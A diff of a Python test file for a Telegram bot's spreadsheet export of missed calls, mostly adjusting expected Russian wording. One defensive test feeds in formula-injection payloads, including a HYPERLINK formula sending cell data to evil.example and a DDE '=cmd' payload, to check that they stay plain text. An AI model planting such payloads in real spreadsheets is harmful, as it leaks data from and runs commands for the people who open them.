@@ -27,7 +27,7 @@ NAMES = {"79160000001": "ООО Ромашка", "79160000002": "Пётр <Ив�
 
 def alert_some_misses(world: World, seeded: Seeded) -> dict[str, str]:
     """Three misses of different customers alerted in the team chat: closed by hand, called back, left open.
-    Returns what the export should say of each (by vpbx id)."""
+    Returns what the export should say of the first two (by vpbx id); the one left open days ago is its episode's."""
     storage = world.services.storage
     storage.chats.subscribe(GROUP, "Sales", [], False, now=1)
     chosen: dict[str, CallRecord] = {}
@@ -48,7 +48,7 @@ def alert_some_misses(world: World, seeded: Seeded) -> dict[str, str]:
     assert claimed is not None
     alerts.callback_finished(claimed.id, True, 70, None, now=4, claim=claimed)
     alert(left)
-    return {done.vpbx_id: "закрыто вручную (Иванова)", called.vpbx_id: "перезвонил Попов", left.vpbx_id: "открыт"}
+    return {done.vpbx_id: "закрыто вручную (Иванова)", called.vpbx_id: "перезвонил(а) Попов"}
 
 
 def expected_rows(seeded: Seeded, alerted: dict[str, str], names: dict[str, str]) -> list[tuple[Any, ...]]:
@@ -57,7 +57,7 @@ def expected_rows(seeded: Seeded, alerted: dict[str, str], names: dict[str, str]
         kind = outcome(seeded, misses, answer)
         if kind == "called_back":
             assert answer is not None
-            said = f"перезвонил {answer.member_name}" if answer.member_name else "перезвонили"
+            said = f"перезвонил(а) {answer.member_name}" if answer.member_name else "перезвонили"
         else:
             said = {"answered_later": "ответили позже", "lost": "потерян", "unresolved": "не дозвонились"}[kind]
         decided.update((miss.vpbx_id, said) for miss in misses)
@@ -109,7 +109,7 @@ async def test_the_export_has_one_row_per_archived_call_as_people_read_it(world:
     rows = list(sheet.iter_rows(values_only=True))
     assert rows[0] == HEADER
     assert rows[1:] == expected
-    assert {"перезвонил Попов", "закрыто вручную (Иванова)", "открыт", "потерян", "ответили позже"} <= {
+    assert {"перезвонил(а) Попов", "закрыто вручную (Иванова)", "потерян", "ответили позже"} <= {
         row[-1] for row in expected
     }
     assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:J{len(expected) + 1}"
@@ -142,7 +142,7 @@ async def test_only_admins_export_and_nothing_is_worked_out_for_a_period_that_is
     assert await world.ask(MANAGER, "/export") == "Эта команда доступна только администраторам."
     assert (await world.ask(STRANGER, "/export")).startswith("Извините, этот бот работает только для сотрудников")
     assert await world.ask(ADMIN, "/export 30.02") == (
-        "Такого периода нет: «30.02». Например: сегодня, вчера, 7д, 28.11 или 25.11-28.11."
+        "Такого периода нет: «30.02». Например: сегодня, вчера, 7д, 28.11, 25.11–28.11 или 28.11.2025."
     )
     assert world.sent("sendDocument") == [] and world.sent("sendChatAction") == []
     assert world.services.storage.audit.recent(action="export") == []
@@ -174,6 +174,10 @@ async def test_names_and_numbers_from_outside_are_text_cells_never_formulas(worl
     """Customers named by /name, an /import and a forwarded contact, members named at New-Tel, and a caller's number
     as New-Tel gave it, each starting the way a spreadsheet formula (or error) does: in the file, text as it is."""
     storage, sandbox, now = world.services.storage, world.sandbox, int(time.time())
+    # Named at New-Tel before anyone asks the bot: the members' list is cached for a minute (access reads it too).
+    members = sandbox.company.members[:3]
+    for member, name in zip(members, ("\t=1+1", "#N/A", "Бухгалтерия\x07"), strict=True):
+        member.name = name  # as New-Tel lists them; a bell is no character a spreadsheet can hold
     await world.say(MANAGER, '/name 79160000001 =HYPERLINK("http://evil.example/?leak="&A1,"Нажмите")')
     csv = "name,phone\n\"=cmd|' /C calc'!A0\",79160000002\n@SUM(1+1),79160000003\n-2+3,79160000004\n"
     preview = await upload(world, ADMIN, csv.encode(), "clients.csv")
@@ -185,9 +189,6 @@ async def test_names_and_numbers_from_outside_are_text_cells_never_formulas(worl
     await world.edited(offer)
     named = book(world)
     assert len(named) == 5 and all(name[0] in "=@-+" for name in named.values())
-    members = sandbox.company.members[:3]
-    for member, name in zip(members, ("\t=1+1", "#N/A", "Бухгалтерия\x07"), strict=True):
-        member.name = name  # as New-Tel lists them; a bell is no character a spreadsheet can hold
     answered = [
         sandbox.add_call("in", clid=f"7916000000{n}", status="answered", answered_numbers=(member.internal_number,))
         for n, member in enumerate(members, start=1)
